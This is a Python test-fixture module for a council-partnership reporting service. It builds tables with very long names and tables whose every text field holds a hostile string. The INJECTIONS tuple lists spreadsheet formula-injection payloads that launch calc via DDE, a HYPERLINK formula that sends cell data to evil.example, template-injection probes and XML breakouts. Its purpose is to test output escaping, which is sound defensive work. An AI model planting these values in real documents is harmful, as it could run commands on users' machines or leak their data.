"""Tables that are hard to print: the largest partnership there might be, and texts that a file could stumble over."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from services.reporting.table import Question, Table, Update, build_table
from shared.figures import PARTNERSHIP, Scope, Status, Stream, WorkstreamCode
from shared.financial_year import FinancialYear
from shared.partnership import Council, Partnership, Projection, Workstream
from tests.reporting_figures import EAST_SUSSEX, ENTRY, SE7, pence, posted

LONG: str = "and the Joint Arrangements for Shared Professional and Technical Services, East and West"
#: What a spreadsheet or a template would run, a markup would swallow, or a file could not hold.
INJECTIONS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Highways")',
    "@SUM(1+1)*cmd",
    "+44 1273 & Sons <b>not bold</b>",
    "-2+3+cmd|' /C calc'!A0",
    "{{ table.__class__ }} {% for a in b %} {_{ 7*7 }_} {%tr endfor %}",
    "</w:t></w:r><w:r><w:t>&lt;&amp;amp; ]]> <!--",
    "\x00\x07\x1b\ufffe\ud800 control",
    '&L&P&"Courier"&24 &amp; 26&D',
    "https://evil.example/ mailto:a@b 'quoted' \"twice\"",
)


def largest(councils: int = 74, workstreams: int = 10, *, years: str = "2016/17", home: bool = True) -> Table:
    """Long names everywhere, a figure in each cell, and an update for each workstream."""
    partnership = Partnership.model_construct(
        code="all",
        name="The Partnership of All the Councils of England South of the Trent",
        short_name="ACE",
        first_year=FinancialYear.parse("2011/12"),
        last_year=FinancialYear.parse(years),
        headline=SE7.headline,
        councils=tuple(
            Council(
                gss=f"E{10000000 + number}",
                register="C" + "".join(chr(65 + int(digit)) for digit in f"{number:03d}"),
                name=f"Metropolitan Borough {number} {LONG} Council",
                short_name=f"MB{number}CC",
            )
            for number in range(1, councils + 1)
        ),
        workstreams=tuple(
            Workstream(
                code=f"work-{number}",
                name=f"Workstream {number} {LONG}",
                lead="E10000001",
                purpose=f"What it is for. {LONG}. " * 3,
                note=f"A note to workstream {number}. {LONG}.",
            )
            for number in range(1, workstreams + 1)
        ),
        projections=(
            Projection(workstream="work-1", amount="£310m", horizon="by 2020", confidence="notional", text=LONG),
        ),
    )
    figures = [
        posted(f"work-{number}", str(year), pence(123_456_700 + 89 * number + year.starts_in), scope=scope)
        for number in range(1, workstreams + 1)
        for scope in (PARTNERSHIP, *(council.scope for council in partnership.councils))
        for year in partnership.years
    ]
    updates = [
        Update(
            Stream(WorkstreamCode(f"work-{number}"), PARTNERSHIP),
            f"{LONG}. " * 8,
            date(2011, 12, 7),
            ENTRY.recorded_at,
            "lead",
            "a-return",
        )
        for number in range(1, workstreams + 1)
    ]
    return build_table(partnership, figures, updates, Question(home="E10000002" if home else None))


def hostile(text: str) -> Table:
    """A table in which whatever may be written freely is that text."""
    # Made anew: a copy would keep the names that the original has looked up.
    partnership = Partnership.model_construct(
        **{name: getattr(SE7, name) for name in Partnership.model_fields}
        | {
            "name": text,
            "short_name": text,
            "councils": tuple(
                council.model_copy(update={"name": text, "short_name": text}) for council in SE7.councils
            ),
            "workstreams": tuple(
                workstream.model_copy(update={"name": text, "purpose": text, "note": text})
                for workstream in SE7.workstreams
            ),
            "projections": tuple(
                projection.model_copy(update={"text": text, "horizon": text, "confidence": text})
                for projection in SE7.projections
            ),
        }
    )
    figures = (
        posted("ict", "2011/12", "£1m"),
        posted("ict", "2011/12", Status.TO_BE_CONFIRMED, initiative=text),
        posted("ict", "2012/13", "£2m", scope=EAST_SUSSEX, entry=replace(ENTRY, note=text, reason=text)),
    )
    updates = tuple(
        Update(Stream(WorkstreamCode("ict"), scope), text, date(2011, 12, 7), ENTRY.recorded_at, text, "a-return")
        for scope in (PARTNERSHIP, Scope(EAST_SUSSEX))
    )
    return build_table(partnership, figures, updates, Question(home=EAST_SUSSEX))
